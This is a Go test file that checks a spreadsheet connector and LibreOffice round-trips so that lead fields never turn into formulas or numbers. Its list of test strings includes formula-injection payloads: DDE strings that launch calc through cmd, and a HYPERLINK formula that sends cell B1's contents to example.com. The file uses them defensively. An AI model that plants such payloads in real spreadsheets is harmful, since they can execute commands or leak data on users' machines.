package xlsx

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/leadrelay/leadrelay/connectors/connectortest"
	"github.com/leadrelay/leadrelay/internal/lead"
)

// saved lets LibreOffice open a workbook and save it as its own.
func saved(t *testing.T, path string) string {
	t.Helper()
	program, err := exec.LookPath("soffice")
	if err != nil {
		if program, err = exec.LookPath("libreoffice"); err != nil {
			connectortest.SkipOrFail(t, "LibreOffice is not installed: apt-get install libreoffice-calc-nogui")
		}
	}
	folder := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	out, err := exec.CommandContext(ctx, program, "-env:UserInstallation=file://"+filepath.Join(folder, "profile"),
		"--headless", "--convert-to", "xlsx", "--outdir", folder, path).CombinedOutput()
	path = filepath.Join(folder, filepath.Base(path))
	if _, missing := os.Stat(path); err != nil || missing != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return path
}

// dangerous are texts of which a spreadsheet would make something else, and such that XML has trouble with.
var dangerous = []string{
	"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://example.com/?"&B1,"click")`, "@SUM(1)", "-1+1", "-2+3+cmd|' /C calc'!A0",
	"+44 123", "+441234567890", "0007", "1500", "4915112345678", "12345678901234567890", "1.50", "1/2", "2026-03-14", "3.5.2026", "12:30",
	"5 May 2026", "50%", "$5", "1e5", "(5)", "'0007", "'=1+1", "\u00a0=1+1", "＝1+1", "−5", "TRUE", "#REF!", "{=1}",
	" in front", "behind ", "a\ttab", "two\nlines\n", "\nfirst", "<b>&amp;</b>", "]]>", "_x0041_", "_x005F_", "a_x000D_b",
	"👩‍🚀 Zoë 🎉", "שלומית", "a;=1+1", "a,=1+1,b", "a\n=1+1",
}

func TestT26NothingBecomesAFormulaOrANumberInLibreOffice(t *testing.T) {
	path := newPath(t)
	var changes []lead.Change
	for i, text := range dangerous {
		l := connectortest.Sample(i)
		l.Name, l.Note = text, text
		l.Custom["budget"], l.Custom["exact"] = json.Number("-1500.5"), json.Number("12345678901234567890")
		l.Custom["formula"] = []any{text}
		changes = append(changes, connectortest.Created(l))
	}
	columns := []string{"name", "email", "note", "budget", "newsletter", "exact", "created_at", "formula"}
	push(t, sheetOf(t, path, nil, columns...), changes...)

	for who, path := range map[string]string{"in the file": path, "in LibreOffice": saved(t, path)} {
		f, err := excelize.OpenFile(path, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		for i, text := range dangerous {
			for column, want := range map[int]struct {
				text  string
				kinds []excelize.CellType
			}{
				1: {id(i), texts}, 2: {text, texts}, 4: {text, texts}, 9: {text, texts}, 7: {"12345678901234567890", texts},
				8: {"2026-03-14T15:09:26Z", texts},
				5: {"-1500.5", []excelize.CellType{excelize.CellTypeUnset, excelize.CellTypeNumber}},
				6: {"1", []excelize.CellType{excelize.CellTypeBool}},
			} {
				cell := cellName(column, i+2)
				got, _ := f.GetCellValue("Leads", cell)
				kind, _ := f.GetCellType("Leads", cell)
				formula, _ := f.GetCellFormula("Leads", cell)
				if kind == excelize.CellTypeBool {
					formula = "" // LibreOffice makes =TRUE() of a truth
				}
				if got != want.text || formula != "" || !slices.Contains(want.kinds, kind) {
					t.Errorf("%s, %s of %q is %q of the kind %d (formula %q), want %q", who, columns[max(0, column-2)], text, got, kind, formula, want.text)
				}
			}
		}
	}
}

var texts = []excelize.CellType{excelize.CellTypeSharedString, excelize.CellTypeInlineString}

func TestFileThatLibreOfficeSavedIsWrittenOn(t *testing.T) {
	path := newPath(t)
	columns := []string{"name", "note", "budget", "newsletter"}
	var changes []lead.Change
	for i, text := range dangerous {
		l := connectortest.Sample(i)
		l.Name, l.Note = text, text
		changes = append(changes, connectortest.Created(l))
	}
	push(t, sheetOf(t, path, nil, columns...), changes...)
	edited(t, path, func(f *excelize.File) {
		rows(t, f, "Leads", []any{nil, nil, nil, nil, nil, "Sum"}, []any{nil, nil, nil, nil, nil, "=SUM(D2:D100)"})
	})
	path = saved(t, path)
	before := read(t, path)
	c := sheetOf(t, path, nil, columns...)
	push(t, c, changes...)
	if read(t, path) != before {
		t.Error("it was written although it says the same in other ways")
	}
	push(t, c, update(0), remove(1), create(1000), create(1001))
	wantSound(t, path)
	for name, content := range parts(t, path) {
		if strings.Contains(content, id(1)) {
			t.Errorf("the deleted lead is left in %s", name)
		}
	}
	for _, path := range []string{path, saved(t, path)} {
		got := grid(t, path, "Leads")
		if got[1][1] != "Wilhelmina Featherstone2" || got[1][5] != "=SUM(D2:D100)" || got[2][0] != id(1000) || got[len(dangerous)+1][0] != id(1001) {
			t.Errorf("got %q", got)
		}
	}
}

func TestLibreOfficeOpensWhatPeopleMadeToo(t *testing.T) {
	path := rich(t)
	push(t, sheetOf(t, path, nil, "name", "email", "source"), update(1), remove(2), create(5), create(6))
	path = saved(t, path)
	got := grid(t, path, "Leads")
	if len(got) < 6 || got[1][2] != "Wilhelmina Featherstone2" || got[2][0] != id(5) || got[5][0] != id(6) {
		t.Fatalf("got %q", got)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	// A formula in a row that was written is calculated, whatever LibreOffice believes of others.
	if reads, _ := f.GetCellValue("Leads", "F2"); reads != "Wilhelmina Featherstone2 <zenobia.quillfeather1@example.com>" {
		t.Errorf("the formula beside an updated lead shows %q", reads)
	}
	if notes, err := f.GetComments("Leads"); err != nil || len(notes) != 3 {
		t.Errorf("got the notes %+v, %v", notes, err)
	}
}
